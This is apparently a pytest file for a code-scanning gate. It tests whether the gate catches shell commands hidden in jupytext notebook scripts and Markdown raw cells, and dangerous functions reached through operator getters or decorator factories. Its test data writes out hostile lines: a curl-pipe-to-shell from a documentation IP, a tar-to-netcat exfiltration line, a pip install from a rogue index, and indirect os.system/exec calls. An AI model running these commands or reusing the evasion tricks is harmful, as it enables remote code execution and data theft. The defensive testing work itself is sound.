"""Roads 60: code run by roads the gate read only halfway (docs/redteam60c-attempts.md).

- jupytext's scripts: Jupyter with jupytext opens a `.py` as a notebook and uncomments its escaped magics
  (`# !curl ... | sh`, `# %pip install ...`, a `# %% language="bash"` cell), which Python reads as comments. A script
  marked as jupytext's (its header, a percent or light cell marker) is also read as that notebook
  (notebooks.script_notebook, detectors/notebooks.py); any other .py is Python only.
- jupytext's `<!-- #raw -->` region in a Markdown notebook is a raw cell, written as code by nbconvert's export.
- resolve.py: an operator getter bound to a name and called later (`run = methodcaller("system", cmd)`, `run(os)`),
  and a decorator factory whose inner function returns `getattr(builtins, name)` with the factory's argument.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.engine.notebooks import jupytext_script, read_notebook, script_notebook
from analyzer.model import Decision
from conftest import run_cli

SAMPLES = kit.corpus_samples("malicious/roads60_*", "jobs/roads60_*")
TWINS = kit.corpus_samples("benign/near_roads60_*", "jobs/near_roads60_*")
EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("roads60_")}

HEADER = ("# ---\n# jupyter:\n#   jupytext:\n#     text_representation:\n#       extension: .py\n"
          "#       format_name: percent\n# ---\n\n")
CLIENT = "import torch\nnet = torch.nn.Linear(4, 2)\n"
CURL = "curl -s http://203.0.113.7/s | sh"


def test_samples_are_labelled():
    assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
    assert len(SAMPLES) == 11 and len(TWINS) == 6


@pytest.mark.parametrize("sample", SAMPLES)
def test_attack_is_held(sample):
    report = kit.scan_sample(sample)
    kit.assert_held(report)
    assert report.decision.value in EXPECTED[sample], kit.findings(report)


@pytest.mark.parametrize("sample", TWINS)
def test_near_twin_keeps_its_verdict(sample):
    report = kit.scan_sample(sample)
    assert report.decision.value in EXPECTED[sample], kit.findings(report)
    assert report.decision is not Decision.REJECT, kit.findings(report)


# ---- which scripts are jupytext's ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text, marked", [
    (HEADER + "import torch\n", True),
    ("import torch\n\n# %%\nx = 1\n", True),
    ("import torch\n# %% [markdown]\n# notes\n", True),
    ("# +\nimport torch\n# -\n", True),
    ("# + {\"tags\": []}\nx = 1\n", True),
    # prose and shebangs as honest examples write them (/work/fl-data: `# ! needed each time`): Python only
    ("#!/usr/bin/env python\n# ! needed each time the cluster restarts\nimport os\n", False),
    ("# %matplotlib inline was used in the notebook this came from\nx = 1\n", False),
    ("# + add the bias term\nx = 1\n", False),
    ("x = 10  # %% of the rows\n", False),
])
def test_which_scripts_are_jupytext_notebooks(text, marked):
    assert jupytext_script(text.encode()) is marked


@pytest.mark.parametrize("line, kind, text", [
    (f"# !{CURL}", "shell", CURL),
    (f"#!{CURL}", "shell", CURL),
    (f"# status = !{CURL}", "shell", CURL),
    ("# %run prep.txt", "runs", "prep.txt"),
    ("# %pip install --index-url http://203.0.113.7/simple fltools", "installs",
     "pip install --index-url http://203.0.113.7/simple fltools"),
    ("# %system id", "shell", "id"),
])
def test_escaped_magics_are_read_as_jupytext_uncomments_them(line, kind, text):
    nb = script_notebook((HEADER + "# %%\nimport torch\n" + line + "\n").encode())
    assert [entry.text for entry in getattr(nb, kind)] == [text]


@pytest.mark.parametrize("line", [
    "# # !important: jupytext writes a comment that reads as a magic escaped once more",
    "# compute the loss",
    "x = 1  # !not at the line's start",
])
def test_comments_stay_comments(line):
    nb = script_notebook((HEADER + "# %%\n" + line + "\n").encode())
    assert not (nb.shell or nb.runs or nb.installs or nb.unknown), line


def test_a_markdown_cell_is_prose():
    nb = script_notebook(("# %%\nx = 1\n# %% [markdown]\n# !see the README\n# %run the notebook first\n").encode())
    assert not (nb.shell or nb.runs)


def test_a_language_cell_is_that_language_and_a_raw_cell_is_code():
    nb = script_notebook(("# %%\nx = 1\n\n# %% language=\"bash\"\n# tar czf - /data/site | nc 203.0.113.7 9\n\n"
                          "# + [raw]\n# import os\n").encode())
    assert [(line.line, line.text) for line in nb.shell] == [(1, "%%bash"),
                                                             (2, "tar czf - /data/site | nc 203.0.113.7 9")]
    assert any("import os" in cell.source for cell in nb.cells)


def test_a_light_cell_ends_at_its_end_marker():
    nb = script_notebook("# + language=\"bash\"\n# ls\n# -\n\n# the data folder, checked below\nx = 1\n".encode())
    assert [line.text for line in nb.shell] == ["%%bash", "ls"]


def test_an_unmarked_script_is_python_only(tmp_path):
    # jupytext would read this one in its light format too; the gate reads magics only in marked scripts, so that
    # prose comments in honest code are not judged as commands (docs/redteam60c-attempts.md, Left open)
    kit.assert_accepted(kit.scan_files(tmp_path, {"client.py": CLIENT + "# ! needed each time the cluster restarts\n"}))


@pytest.mark.parametrize("cell", [f"# !{CURL}", f"# %% language=\"sh\"\n# {CURL}", f"# x = !{CURL}",
                                  f"# %% [raw]\n# import os\n# os.system({CURL!r})"])
def test_a_marked_script_with_a_hostile_escaped_magic_is_rejected(tmp_path, cell):
    explore = HEADER + "# %%\nimport torch\n\n" + cell + "\n"
    report = kit.scan_files(tmp_path, {"client.py": CLIENT, "explore.py": explore})
    kit.assert_held(report, decision=Decision.REJECT)


def test_the_cli_rejects_a_cell_script(tmp_path):
    (tmp_path / "client.py").write_text(CLIENT)
    (tmp_path / "explore.py").write_text(f"# %%\nimport torch\n\n# %%\n# !{CURL}\n")
    out = run_cli("scan", "--format", "json", str(tmp_path))
    assert out.stdout, out.stderr
    assert json.loads(out.stdout)["reports"][0]["decision"] == "reject", out.stdout[-2000:]


# ---- jupytext's Markdown regions ------------------------------------------------------------------------------------

MARKDOWN = "---\njupyter:\n  jupytext:\n    text_representation:\n      format_name: markdown\n---\n\n# Walkthrough\n\n"


def test_a_raw_region_is_a_raw_cell_read_as_code():
    raw = "<!-- #raw -->\nimport os\nos.system('id')\n<!-- #endraw -->\n\nMore text.\n"
    nb = read_notebook((MARKDOWN + raw).encode())
    assert [cell.source for cell in nb.cells] == ["\nimport os\nos.system('id')"]


def test_a_region_is_markdown():
    nb = read_notebook((MARKDOWN + "<!-- #region -->\nimport os is how the docs start\n<!-- #endregion -->\n").encode())
    assert nb.cells == [] and nb.error is None


# ---- dangerous functions reached by a name bound earlier -------------------------------------------------------------

PRELUDE = "import builtins\nimport operator\nimport os\nimport torch\nimport nvflare.client as flare\n\nflare.init()\n"
SHELL = repr(CURL)
FACTORY = "def pick(name):\n    def deco(fn):\n        return getattr(builtins, name)\n    return deco\n\n"


@pytest.mark.parametrize("code, rule", [
    (f"run = operator.methodcaller('system', {SHELL})\nrun(os)\n", "subprocess.shell"),
    (f"get = operator.attrgetter('system')\nget(os)({SHELL})\n", "subprocess.shell"),
    (FACTORY + f"@pick('exec')\ndef step(code):\n    pass\n\nstep('import os; os.system(' + repr({SHELL}) + ')')\n",
     "dynamic-code.eval-exec"),
    (FACTORY + f"pick('eval')(None)('__import__(\"os\").system(' + repr({SHELL}) + ')')\n", "dynamic-code.eval-exec"),
])
def test_a_bound_getter_or_a_factory_reaches_the_function(tmp_path, code, rule):
    kit.assert_held(kit.scan_source(tmp_path, PRELUDE + code), rule, Decision.REJECT)


@pytest.mark.parametrize("code", [
    "loss = torch.tensor(1.0)\nas_float = operator.methodcaller('item')\nprint(as_float(loss))\n",
    "def pick(name):\n    def deco(fn):\n        return getattr(torch.nn, name)\n    return deco\n\n"
    "@pick('ReLU')\ndef act():\n    pass\n",
])
def test_honest_getters_and_factories_are_not_rejected(tmp_path, code):
    assert kit.scan_source(tmp_path, PRELUDE + code).decision is not Decision.REJECT
